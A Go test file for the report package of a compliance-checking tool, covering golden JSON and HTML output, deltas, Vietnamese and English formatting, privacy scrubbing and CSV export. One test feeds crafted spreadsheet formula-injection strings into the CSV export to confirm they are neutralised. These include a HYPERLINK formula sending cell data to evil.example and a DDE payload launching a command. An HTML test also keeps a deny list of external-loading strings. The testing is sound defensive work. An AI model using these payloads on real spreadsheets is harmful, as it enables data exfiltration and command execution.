package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/vungmanh/vungmanh/checker"
	"github.com/vungmanh/vungmanh/internal/report/schema"
	"github.com/vungmanh/vungmanh/internal/snapshot"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// built is fixture() with its delta against previous().
func built() *Report {
	r := Build(fixture())
	r.Delta = Delta(previous(), r)
	return r
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("read golden (run with -update to create): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs from golden (-want +got; -update rewrites):\n%s", name, diff)
	}
}

func mustValidate(t *testing.T, data []byte) {
	t.Helper()
	if err := schema.Validate(data); err != nil {
		t.Fatalf("report.json does not match the schema: %v", err)
	}
}

func TestGolden(t *testing.T) {
	r := built()
	j, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	mustValidate(t, j)
	golden(t, "report.golden.json", j)
	for _, lang := range []Lang{Vietnamese, English} {
		h, err := HTML(r, lang)
		if err != nil {
			t.Fatal(err)
		}
		golden(t, "report.golden."+string(lang)+".html", h)
	}
}

// The same inputs in any order give the same bytes; only run id and times
// can differ between two runs.
func TestBuildDeterministic(t *testing.T) {
	a, _ := JSON(Build(fixture()))
	in := fixture()
	slices.Reverse(in.Results)
	slices.Reverse(in.Targets)
	for i := range in.Targets {
		slices.Reverse(in.Targets[i].ByUnit)
	}
	slices.Reverse(in.DataQuality)
	in.Inventory = map[string]any{"units": map[string]any{"branch": 12, "commune": 4},
		"models": []any{map[string]any{"type": "one_plus_one", "status": "active", "count": 3,
			"units_with": map[string]any{"commune": 2, "branch": 3}, "by_unit": []any{}}}, "members": map[string]any{"total": 1234}}
	in.RunID = "other-run"
	in.StartedAt = in.StartedAt.Add(time.Hour)
	in.FinishedAt = in.FinishedAt.Add(time.Hour)
	b, _ := JSON(Build(in))
	mustValidate(t, b)
	norm := func(j []byte) string {
		s := string(j)
		for _, x := range []string{"20240930T190000Z-abcdef01", "other-run", "2024-09-30T19:00:00Z", "2024-09-30T20:00:00Z",
			"2024-09-30T19:01:35Z", "2024-09-30T20:01:35Z"} {
			s = strings.ReplaceAll(s, x, "X")
		}
		return s
	}
	if diff := cmp.Diff(norm(a), norm(b)); diff != "" {
		t.Errorf("reports differ beyond run id and times (-a +b):\n%s", diff)
	}
	c, _ := JSON(Build(fixture()))
	if !bytes.Equal(a, c) {
		t.Error("two builds of the same inputs differ")
	}
}

func TestBuild(t *testing.T) {
	r := built()
	want := Summary{Subjects: 11, Pass: 5, Fail: 2, Waived: 1, Skipped: 1, Error: 1, NotEvaluated: 1,
		DataQuality: DQSummary{Error: 2, Warning: 1}}
	if diff := cmp.Diff(want, r.Summary); diff != "" {
		t.Errorf("summary (-want +got):\n%s", diff)
	}
	var got []string
	for _, f := range r.Findings {
		got = append(got, f.Target+"/"+f.Subject+"/"+string(f.Status))
	}
	wantF := []string{"TB-01/xa-tt-2/fail", "TB-01/xa-vt-1/fail", "TB-01/xa-vt-2/waived", "TB-04/mh-1/error", "TB-04/mh-3/not_evaluated"}
	if diff := cmp.Diff(wantF, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if ids := []string{r.Targets[0].ID, r.Targets[1].ID, r.Targets[2].ID}; !slices.IsSorted(ids) {
		t.Errorf("targets not sorted: %v", ids)
	}
	if lv := r.Targets[0].ByUnit[0].Level; lv != "province" {
		t.Errorf("by_unit not sorted by level: first is %s", lv)
	}
	if d := r.Findings[0].Violations[0].Details; !cmp.Equal(d, map[string]any{"models": 0, "nested": map[string]any{"ok": 1}}) {
		t.Errorf("details not scrubbed: %v", d)
	}
	if r.DataQuality[0].Value != "" {
		t.Errorf("members finding value kept: %q", r.DataQuality[0].Value)
	}
	empty, err := JSON(Build(Inputs{RunID: "r", Snapshot: SnapshotInfo{Name: "x", AsOf: "2025-07-01"}}))
	if err != nil {
		t.Fatal(err)
	}
	mustValidate(t, empty)
}

func TestKey(t *testing.T) {
	base := checker.Result{Target: "TB-01", Subject: "xa-1", Violations: []checker.Violation{{Msg: "a"}, {Msg: "b"}}}
	for _, tc := range []struct {
		name string
		r    checker.Result
		same bool
	}{
		{"same", base, true},
		{"messages reordered", checker.Result{Target: "TB-01", Subject: "xa-1", Violations: []checker.Violation{{Msg: "b"}, {Msg: "a"}}}, true},
		{"status and refs do not count", checker.Result{Target: "TB-01", Subject: "xa-1", Status: checker.StatusWaived,
			Violations: []checker.Violation{{Msg: "a", Refs: []string{"x"}}, {Msg: "b"}}}, true},
		{"other subject", checker.Result{Target: "TB-01", Subject: "xa-2", Violations: base.Violations}, false},
		{"other message", checker.Result{Target: "TB-01", Subject: "xa-1", Violations: []checker.Violation{{Msg: "a"}}}, false},
		{"no separator ambiguity", checker.Result{Target: "TB-01x", Subject: "a-1", Violations: base.Violations}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Key(tc.r) == Key(base); got != tc.same {
				t.Errorf("Key equal = %v, want %v", got, tc.same)
			}
			if len(Key(tc.r)) != 16 {
				t.Errorf("key length %d", len(Key(tc.r)))
			}
		})
	}
}

func TestDelta(t *testing.T) {
	prev, cur := previous(), Build(fixture())
	d := Delta(prev, cur)
	keyOf := func(r *Report, target, subject string) string {
		for _, f := range r.Findings {
			if f.Target == target && f.Subject == subject {
				return f.Key
			}
		}
		t.Fatalf("no finding %s/%s", target, subject)
		return ""
	}
	want := &DeltaSection{
		PreviousRun: "20240831T190000Z-00000001", PreviousAsOf: "2024-08-31",
		New:      []DeltaFinding{{Key: keyOf(cur, "TB-01", "xa-vt-1"), Target: "TB-01", Subject: "xa-vt-1"}},
		Resolved: []DeltaFinding{{Key: keyOf(prev, "TB-01", "xa-tt-1"), Target: "TB-01", Subject: "xa-tt-1"}},
		Merged:   []DeltaMerged{},
		ByTarget: []DeltaTarget{{ID: "TB-01", PassBefore: 1, PassNow: 1}, {ID: "TB-02", PassBefore: 3, PassNow: 4}, {ID: "TB-04"}},
	}
	if diff := cmp.Diff(want, d); diff != "" {
		t.Errorf("delta (-want +got):\n%s", diff)
	}
	for _, tc := range []struct {
		name string
		mod  func(p *Report)
		want bool
	}{
		{"same policies", func(*Report) {}, false},
		{"policies changed", func(p *Report) { p.Run.Policies.SHA256 = "p-old" }, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := previous()
			tc.mod(p)
			if got := Delta(p, cur).PoliciesChanged; got != tc.want {
				t.Errorf("policies_changed = %v, want %v", got, tc.want)
			}
		})
	}
	if Delta(nil, cur) != nil {
		t.Error("Delta(nil, cur) != nil")
	}
	// A target only in the previous run keeps its pass_before.
	p := previous()
	p.Targets = append(p.Targets, TargetSummary{ID: "TB-00", Counts: checker.Counts{Pass: 7}})
	if got := Delta(p, cur).ByTarget[0]; got != (DeltaTarget{ID: "TB-00", PassBefore: 7}) {
		t.Errorf("removed target = %+v", got)
	}
}

func TestFormats(t *testing.T) {
	for _, tc := range []struct{ name, got, want string }{
		{"int vi", Vietnamese.Int(1234567), "1.234.567"},
		{"int vi small", Vietnamese.Int(999), "999"},
		{"int vi negative", Vietnamese.Int(-1234), "-1.234"},
		{"int en", English.Int(1234), "1,234"},
		{"percent vi", Vietnamese.Percent(0.485), "48,5\u00a0%"},
		{"percent vi whole", Vietnamese.Percent(1), "100,0\u00a0%"},
		{"percent en", English.Percent(0.4297), "43.0%"},
		{"date vi", Vietnamese.Date("2024-09-30"), "30/09/2024"},
		{"date en", English.Date("2024-09-30"), "30 Sep 2024"},
		{"date bad", Vietnamese.Date("hôm qua"), "hôm qua"},
		{"datetime vi", Vietnamese.DateTime("2024-09-30T19:01:35Z"), "30/09/2024 19:01 UTC"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.got != tc.want {
				t.Errorf("got %q, want %q", tc.got, tc.want)
			}
		})
	}
}

func TestCatalogueComplete(t *testing.T) {
	for key := range messages[Vietnamese] {
		if _, ok := messages[English][key]; !ok {
			t.Errorf("%q has no English label", key)
		}
	}
	for key := range messages[English] {
		if _, ok := messages[Vietnamese][key]; !ok {
			t.Errorf("%q has no Vietnamese label", key)
		}
	}
	for _, s := range []string{"pass", "fail", "waived", "skipped", "error", "not_evaluated"} {
		if Vietnamese.T(s) == s {
			t.Errorf("status %q has no label", s)
		}
	}
	if _, err := ParseLang("fr"); err == nil {
		t.Error("ParseLang(fr) accepted")
	}
}

func TestFindingsCSV(t *testing.T) {
	data, err := FindingsCSV(built(), Vietnamese)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Fatal("no UTF-8 BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(CSVHeader(), recs[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	var got [][]string
	for _, r := range recs[1:] {
		got = append(got, []string{r[0], r[1], r[5], r[6]})
	}
	want := [][]string{
		{"TB-01", "xa-tt-2", "fail", "chưa có mô hình \"1+1\" đang hoạt động"},
		{"TB-01", "xa-tt-2", "fail", "'=thiếu nội dung \"1 hội viên vận động 1 phụ nữ\""},
		{"TB-01", "xa-vt-1", "fail", "chưa có mô hình \"1+1\" đang hoạt động"},
		{"TB-01", "xa-vt-2", "waived", "chưa có mô hình \"1+1\" đang hoạt động"},
		{"TB-04", "mh-1", "error", "eval_conflict_error: complete rules must not produce multiple outputs"},
		{"TB-04", "mh-3", "not_evaluated", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}

func TestRenderFormats(t *testing.T) {
	for _, tc := range []struct {
		formats string
		want    []string
		wantErr bool
	}{
		{"json,html,csv,parquet,xlsx", []string{CSVName, HTMLName, JSONName, XLSXName, ParquetName, SummaryName,
			"units/dist-tt.html", "units/dist-vt.html", "units/xa-tt-1.html", "units/xa-tt-2.html", "units/xa-vt-1.html", "units/xa-vt-2.html"}, false},
		{"json", []string{JSONName, SummaryName}, false},
		{" html , html", []string{HTMLName, JSONName, SummaryName,
			"units/dist-tt.html", "units/dist-vt.html", "units/xa-tt-1.html", "units/xa-tt-2.html", "units/xa-vt-1.html", "units/xa-vt-2.html"}, false},
		{"pdf", nil, true},
	} {
		t.Run(tc.formats, func(t *testing.T) {
			fs, err := ParseFormats(tc.formats)
			if (err != nil) != tc.wantErr {
				t.Fatalf("ParseFormats err = %v", err)
			}
			if err != nil {
				return
			}
			files, err := Render(context.Background(), built(), fs, Vietnamese, nil)
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for n := range files {
				names = append(names, n)
			}
			slices.Sort(names)
			if diff := cmp.Diff(tc.want, names); diff != "" {
				t.Errorf("files (-want +got):\n%s", diff)
			}
		})
	}
}

func TestHTMLStatic(t *testing.T) {
	noDistricts := fixture()
	for i, tg := range noDistricts.Targets {
		var rows []UnitCount
		for _, u := range tg.ByUnit {
			if u.Level != "district" {
				rows = append(rows, u)
			}
		}
		rows = append(rows, UnitCount{UnitID: "xa-tt-1", Level: "commune", Name: "Xã Thụy Hải", Counts: checker.Counts{Total: 1, Pass: 1}},
			UnitCount{UnitID: "xa-vt-1", Level: "commune", Name: "Xã Tam Quang", Counts: checker.Counts{Total: 1, Fail: 1}})
		noDistricts.Targets[i].ByUnit = rows
	}
	for i := range noDistricts.Results {
		noDistricts.Results[i].Path = slices.DeleteFunc(slices.Clone(noDistricts.Results[i].Path), func(id string) bool {
			return strings.HasPrefix(id, "dist-")
		})
	}
	for _, tc := range []struct {
		name    string
		r       *Report
		lang    Lang
		want    []string
		wantNot []string
	}{
		{"vi with districts", built(), Vietnamese, []string{`lang="vi"`, "Theo đơn vị trực thuộc", `<a href="units/dist-tt.html">Thái Thụy</a>`, "25,0\u00a0%", "▲ &#43;1", "30/09/2024"}, nil},
		{"en", built(), English, []string{`lang="en"`, "By unit below", "25.0%", "30 Sep 2024", "Every commune union has"}, []string{"Tỷ lệ đạt chung"}},
		{"no districts: a row per commune", Build(noDistricts), Vietnamese, []string{`<a href="units/xa-tt-1.html">Xã Thụy Hải</a>`, `<a href="units/xa-vt-1.html">Xã Tam Quang</a>`, "Chưa có lần chạy trước"}, []string{"units/dist-tt.html"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h, err := HTML(tc.r, tc.lang)
			if err != nil {
				t.Fatal(err)
			}
			s := string(h)
			for _, w := range append([]string{`name="viewport"`, "@page{size:A4", "@media print", `<table class="matrix">`, `<input id="filter"`}, tc.want...) {
				if !strings.Contains(s, w) {
					t.Errorf("HTML lacks %q", w)
				}
			}
			for _, w := range append([]string{"<script src", "http://", "https://", "<img", "<link", "@import", "url(", "fetch(", "XMLHttpRequest"}, tc.wantNot...) {
				if strings.Contains(s, w) {
					t.Errorf("HTML contains %q", w)
				}
			}
		})
	}
}

// Build keeps copies of the paths: changing the inputs afterwards, or
// appending to one result's path, changes no other result.
func TestBuildCopiesPaths(t *testing.T) {
	in := fixture()
	r := Build(in)
	before, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	for i := range in.Results {
		for j := range in.Results[i].Path {
			in.Results[i].Path[j] = "changed"
		}
	}
	_ = append(r.Results[0].Path, "appended")
	after, err := JSON(r)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(before), string(after)); diff != "" {
		t.Errorf("report changed with its inputs (-before +after):\n%s", diff)
	}
	if got := r.Results[1].Path; !slices.Equal(got, []string{"tb", "dist-tt"}) {
		t.Errorf("second result's path = %v", got)
	}
}

// TestScrubFinding: a finding on a table of people never quotes a value;
// the name of a unit or a model is quoted, as any other value of those
// tables; personal column names are blanked anywhere.
func TestScrubFinding(t *testing.T) {
	cases := []struct {
		table  snapshot.Table
		column string
		keep   bool
	}{
		{snapshot.Units, "name", true},
		{snapshot.Models, "name", true},
		{snapshot.Units, "kind", true},
		{snapshot.Members, "name", false},
		{snapshot.Members, "unit_id", false},
		{snapshot.Cadres, "role", false},
		{snapshot.Participants, "participant_id", false},
		{snapshot.Units, "phone", false},
		{snapshot.Ratings, "needs", false},
	}
	for _, c := range cases {
		f := scrubFinding(snapshot.Finding{Code: snapshot.DQNormalised, Table: c.table, Column: c.column, Value: "Tỉnh Thái Bình"})
		if got := f.Value != ""; got != c.keep {
			t.Errorf("%s.%s: value kept = %v, want %v", c.table, c.column, got, c.keep)
		}
	}
}

// TestFindingsCSVFormulaSplit opens findings.csv as spreadsheet programs
// do in both kinds of locale: split on ',' with quotes (encoding/csv), and
// split on ';' and line breaks with quotes counting only at the start of a
// cell (a locale whose list separator is ';'). No cell may start a formula
// either way, although the names, messages and refs hold formulas after a
// ';', a line break, spaces or a quote.
func TestFindingsCSVFormulaSplit(t *testing.T) {
	crafted := []string{
		`x;=HYPERLINK("http://evil.example/?"&A1,"bấm")`,
		";+cmd|' /C calc'!A0",
		";@SUM(1)",
		";-1+2",
		"a;\t=1+1",
		"a;\r=1+1",
		"a\n=1+1",
		"a\r\n@SUM(1)",
		`a; "=1+1"`,
		`a;"=1+1`,
		"a;  -2+3",
		"a;\uff1d1+1",
		"=1+1",
		"\t=1+1",
		"\r=1+1",
		" @SUM(1)",
	}
	r := built()
	var fs []Finding
	for i, s := range crafted {
		fs = append(fs, Finding{Target: "TB-01", Subject: "s" + s, SubjectLevel: "commune", SubjectName: s,
			Path: []string{"tb", s}, Status: checker.StatusFail, Key: "k" + s,
			Violations: []checker.Violation{{Msg: "chưa có mô hình " + s, Refs: []string{"xa-1", s, "-" + s}}}})
		if i%2 == 0 {
			fs = append(fs, Finding{Target: "TB-02", Subject: s, Status: checker.StatusError, Error: strp(s)})
		}
	}
	r.Findings = fs
	data, err := FindingsCSV(r, Vietnamese)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.TrimPrefix(string(data), "\ufeff")
	formula := func(cell string) bool {
		if cell == "" {
			return false
		}
		if cell[0] == '\t' || cell[0] == '\r' {
			return true
		}
		first, _ := utf8.DecodeRuneInString(strings.TrimLeft(cell, " \""))
		return strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", first)
	}
	// Split on ',' with quotes, as Excel does where ',' is the list separator.
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+len(fs) {
		t.Fatalf("%d records, want %d", len(recs), 1+len(fs))
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if formula(cell) {
				t.Errorf("split on ',': cell %q starts a formula", cell)
			}
		}
	}
	// Split on ';' and line breaks, where ';' is the list separator: a
	// quote opens a quoted cell only at the start of a cell.
	cells := 0
	for _, line := range strings.FieldsFunc(text, func(r rune) bool { return r == '\n' || r == '\r' }) {
		for _, cell := range strings.Split(line, ";") {
			cells++
			if formula(cell) {
				t.Errorf("split on ';': cell %q starts a formula", cell)
			}
		}
	}
	if cells < 3*len(crafted) {
		t.Fatalf("split on ';' gave %d cells, too few for the crafted rows", cells)
	}
	// The text itself is kept: only apostrophes are added (encoding/csv
	// reads a CR of a quoted field as a line break).
	plain := strings.NewReplacer("'", "", "\r", "")
	for i, rec := range recs[1:] {
		if got := plain.Replace(rec[3]); rec[0] == "TB-01" && got != plain.Replace(fs[i].SubjectName) {
			t.Errorf("subject_name %q, want %q with apostrophes only", rec[3], fs[i].SubjectName)
		}
	}
}

// GiveResults builds the same report, on the inputs' own array (no copy),
// whatever the order of the results given (sorted in place).
func TestBuildGiveResults(t *testing.T) {
	for name, mk := range map[string]func() Inputs{
		"fixture":  fixture,
		"national": func() Inputs { return nationalSite(false, 2, 3) },
		"reversed": func() Inputs { in := fixture(); slices.Reverse(in.Results); return in },
	} {
		want := Build(mk())
		in := mk()
		in.GiveResults = true
		got := Build(in)
		if len(got.Results) > 0 && &got.Results[0] != &in.Results[0] {
			t.Errorf("%s: the report's results are a copy", name)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: report differs with GiveResults (-copied +given):\n%s", name, diff)
		}
		a, _ := JSON(want)
		b, _ := JSON(got)
		if !bytes.Equal(a, b) {
			t.Errorf("%s: report.json differs with GiveResults", name)
		}
	}
}

// TestBuildOnEveryCore checks that Build gives the same report on one core
// as on four: the results are cleaned and the findings' keys computed in
// chunks, one goroutine per core, once there are enough of them (tens of
// thousands here; run under -race in CI).
func TestBuildOnEveryCore(t *testing.T) {
	mk := func() Inputs {
		in := nationalSite(false, 2, 3)
		for i := range in.Results {
			if i%3 == 0 && len(in.Results[i].Violations) > 0 {
				in.Results[i].Violations[0].Details = map[string]any{"members": []any{map[string]any{"id": "m1", "ho_ten": "x"}}}
			}
		}
		return in
	}
	in := mk()
	if n := len(in.Results); n < 4*4096 {
		t.Fatalf("%d results: too few for Build to use several cores", n)
	}
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
	want := Build(in)
	runtime.GOMAXPROCS(4)
	for _, give := range []bool{false, true} {
		in := mk()
		in.GiveResults = give
		got := Build(in)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("GiveResults %v: four cores differ from one (-one +four):\n%s", give, diff)
		}
		k := 0
		for _, res := range got.Results {
			if !isFinding(res.Status) {
				continue
			}
			if f := got.Findings[k]; f.Subject != res.Subject || f.Target != res.Target || f.Key != Key(res) {
				t.Fatalf("finding %d (%s %s): key %q, its result's %q", k, f.Target, f.Subject, f.Key, Key(res))
			}
			k++
		}
		if k != len(got.Findings) || k == 0 {
			t.Fatalf("%d findings, %d results that are findings", len(got.Findings), k)
		}
	}
}
